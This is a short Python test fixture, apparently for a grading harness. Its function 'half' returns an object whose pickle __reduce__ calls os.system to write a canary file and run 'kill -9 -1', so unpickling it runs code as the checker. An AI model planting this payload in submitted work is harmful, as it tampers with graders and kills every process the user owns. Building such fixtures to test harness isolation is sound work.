# tries: a result whose unpickling would run code with the checker
# %% half
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo @CANARY@ > /tmp/canary; kill -9 -1",)


half = lambda x: Bomb()
